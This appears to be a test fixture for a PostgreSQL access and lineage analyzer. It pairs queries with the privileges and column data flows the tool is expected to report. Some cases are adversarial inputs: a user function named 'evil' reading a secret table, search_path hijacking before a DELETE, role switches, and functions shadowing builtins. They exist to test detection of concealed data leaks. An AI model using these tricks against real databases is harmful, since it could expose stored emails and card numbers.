--> execute on shop.public.lower()
--> out lower <- public.users.email OPAQUE

-- # a builtin one by its full name
SELECT pg_catalog.lower(email) FROM users
--> is select
--> select on shop.public.users(email)
--> out lower <- public.users.email

-- # a function in a schema out of sight
SELECT hidden.peek(1)
--> is select
--> execute on shop.hidden.peek()
--> out peek OPAQUE

-- # a function nobody knows
SELECT peek(1)
--> is select
--> execute on shop.public.peek()
--> out peek OPAQUE

-- # an operator of the user
SELECT a === b FROM t
--> is select
--> select on shop.public.t(a, b)
--> execute on operator shop.public.===
--> out ?column? <- public.t.a, public.t.b

-- # an operator by its full name
SELECT a OPERATOR(public.===) b, a OPERATOR(pg_catalog.=) b FROM t
--> is select
--> select on shop.public.t(a, b)
--> execute on operator shop.public.===
--> out ?column? <- public.t.a, public.t.b
--> out ?column? <- public.t.a, public.t.b

-- # order by an operator
SELECT a FROM t ORDER BY a USING ===
--> is select
--> select on shop.public.t(a)
--> execute on operator shop.public.===
--> out a = public.t.a
--> oracle public.t.a

-- # any with an operator
SELECT a === ANY (SELECT b FROM secret) FROM t
--> is select
--> select on shop.public.secret(b)
--> select on shop.public.t(a)
--> execute on operator shop.public.===
--> out ?column? <- public.secret.b, public.t.a

-- # tablesample
SELECT * FROM users TABLESAMPLE system (10) REPEATABLE (1)
--> is select
--> select on shop.public.users(*)
--> out id = public.users.id
--> out name = public.users.name
--> out email = public.users.email
--> out card_number = public.users.card_number
--> out created_at = public.users.created_at
--> out profile = public.users.profile

-- # tablesample of the user
SELECT id FROM users TABLESAMPLE evil((SELECT a FROM secret))
--> is select
--> select on shop.public.secret(a)
--> select on shop.public.users(id)
--> execute on shop.evil()
--> out id = public.users.id
--> oracle public.secret.a

-- # xmltable
SELECT x.* FROM users, XMLTABLE('/a' PASSING users.profile COLUMNS b text PATH 'b') AS x
--> is select
--> select on shop.public.users(profile)
--> out b <- public.users.profile

-- # json table
SELECT j.* FROM users, JSON_TABLE(users.profile, '$' COLUMNS (a text PATH '$.a', NESTED '$.b' COLUMNS (c int PATH '$.c'))) AS j
--> is select
--> select on shop.public.users(profile)
--> out a <- public.users.profile
--> out c <- public.users.profile

-- # json value
SELECT JSON_VALUE(profile, '$.a' DEFAULT name ON EMPTY) FROM users
--> is select
--> select on shop.public.users(name, profile)
--> out json_value <- public.users.name, public.users.profile

-- # json constructors
SELECT JSON_OBJECT('e' : email), JSON_ARRAY(name, card_number), JSON_ARRAY(SELECT a FROM secret), JSON_ARRAYAGG(email), JSON_OBJECTAGG(id : email) FROM users
--> is select
--> select on shop.public.secret(a)
--> select on shop.public.users(card_number, email, id, name)
--> out json_object <- public.users.email
--> out json_array <- public.users.name, public.users.card_number
--> out json_array <- public.secret.a
--> out json_arrayagg <- public.users.email
--> out json_objectagg <- public.users.id, public.users.email

-- # xml
SELECT xmlforest(email), xmlelement(name x, xmlattributes(name), card_number) FROM users
--> is select
--> select on shop.public.users(card_number, email, name)
--> out xmlforest <- public.users.email
--> out xmlelement <- public.users.name, public.users.card_number

-- # a temporary table hides another one in the same text
CREATE TEMP TABLE orders AS SELECT 1 AS id; SELECT id FROM orders
--> is create table
--> create on shop.pg_temp.orders
--> temporary orders
--> is select
--> select on shop.pg_temp.orders(id)
--> select on shop.public.orders(id)
--> out id <- ?shop.pg_temp.orders.id, ?shop.public.orders.id

-- # the search path changes in the same text
SET search_path = hidden; SELECT email FROM users; SELECT email FROM public.users; SELECT count(*), peek(1)
--> is set
--> set on setting search_path
--> setting search_path = 'hidden'
--> is select
--> select on shop.public.users(email)
--> unknown on statement shop
--> out email = public.users.email
--> is select
--> select on shop.public.users(email)
--> out email = public.users.email
--> is select
--> execute on shop.hidden.peek()
--> out count
--> out peek OPAQUE

-- # the search path changes through a function in the same text
SELECT set_config('search_path', 'hidden', true); DELETE FROM users
--> is select
--> set on setting search_path
--> setting search_path = 'hidden' local
--> out set_config
--> is delete
--> delete on shop.public.users
--> unknown on statement shop

-- # the role changes in the same text
SET ROLE bob; INSERT INTO users VALUES (1)
--> is set
--> set on setting role
--> setting role = 'bob'
--> is insert
--> insert on shop.public.users(*)
--> unknown on statement shop

-- # everything is reset in the same text
RESET ALL; TABLE users
--> is reset
--> is select
--> select on shop.public.users(*)
--> unknown on statement shop
--> out id = public.users.id
--> out name = public.users.name
--> out email = public.users.email
--> out card_number = public.users.card_number
--> out created_at = public.users.created_at
--> out profile = public.users.profile

-- # a cast to a row in FROM has the columns of the row
SELECT d.c2 FROM (SELECT * FROM CAST((SELECT u FROM users u LIMIT 1) AS users) x, products) AS d(c1, c2, c3, c4, c5, c6, c7, c8, c9)
--> is select
--> select on shop.public.products(*)
--> select on shop.public.users(*)
--> out c2 <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile, public.products.id, public.products.title, public.products.price

-- # a star in VALUES stands for several
SELECT d.b FROM secret s, LATERAL (VALUES (s.*)) AS d(a, b)
--> is select
--> select on shop.public.secret(*)
--> out b = public.secret.b

-- # a star in VALUES of an unknown table
SELECT d.b FROM fresh s, LATERAL (VALUES (s.*, 1)) AS d(a, b)
--> is select
--> select on shop.public.fresh(*)
--> out b <- ?shop.public.fresh.*

-- # a star in an assigned row stands for several
UPDATE t SET (a, b, c) = ROW(s.*, 'x') FROM secret s
--> is update
--> select on shop.public.secret(*)
--> update on shop.public.t(a, b, c)
--> writes shop.public.t.a <- public.secret.a
--> writes shop.public.t.b <- public.secret.b

-- # a star in values that are merged in
MERGE INTO t USING secret s ON true WHEN NOT MATCHED THEN INSERT (a, b, c) VALUES (s.*, 'x')
--> is merge
--> select on shop.public.secret(*)
--> insert on shop.public.t(a, b, c)
--> merge on shop.public.t
--> writes shop.public.t.a <- public.secret.a
--> writes shop.public.t.b <- public.secret.b

-- # a function of the user with a builtin name gives any columns
SELECT d.b FROM (SELECT * FROM lower(1), secret) AS d(a, b)
--> is select
--> select on shop.public.secret(*)
--> execute on shop.public.lower()
--> out b <- public.secret.a, public.secret.b OPAQUE
